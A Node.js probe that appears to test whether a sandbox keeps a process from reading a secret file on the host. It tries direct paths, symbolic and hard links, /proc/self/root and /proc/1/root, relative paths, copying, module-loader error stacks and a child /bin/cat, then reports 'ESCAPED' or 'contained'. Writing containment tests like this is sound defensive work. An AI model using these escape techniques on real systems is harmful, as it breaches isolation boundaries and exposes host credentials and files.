// Attacks: the host's files. Standard input: the path of a readable file outside that begins with "SECRET".
// Success: it reads that file, directly, by links, through /proc, by a module's loader or by a stream.
"use strict";
const fs = require("fs");
const path = require("path");

const secret = fs.readFileSync(0, "utf8").trim();
const ways = {
  path: () => fs.readFileSync(secret, "utf8"),
  "symbolic link": () => {
    fs.symlinkSync(secret, "link");
    return fs.readFileSync("link", "utf8");
  },
  "hard link": () => {
    fs.linkSync(secret, "hard");
    return fs.readFileSync("hard", "utf8");
  },
  "root of the process": () => fs.readFileSync(path.join("/proc/self/root", secret), "utf8"),
  "root of number 1": () => fs.readFileSync(path.join("/proc/1/root", secret), "utf8"),
  "working directory": () => fs.readFileSync(path.relative(process.cwd(), secret), "utf8"),
  copy: () => {
    fs.copyFileSync(secret, "copy");
    return fs.readFileSync("copy", "utf8");
  },
  loader: () => {
    try {
      require(secret);
    } catch (error) {
      return error.stack.includes("SECRET") ? "SECRET" : "";
    }
    return "";
  },
  child: () => require("child_process").execFileSync("/bin/cat", [secret], { encoding: "utf8", stdio: "pipe" }),
};
const worked = [];
for (const [name, way] of Object.entries(ways)) {
  try {
    if (way().startsWith("SECRET")) worked.push(name);
  } catch {}
}
for (const name of ["link", "hard", "copy"]) fs.rmSync(name, { force: true });
console.log(worked.length ? `ESCAPED: read by ${worked.join(", ")}` : "contained");
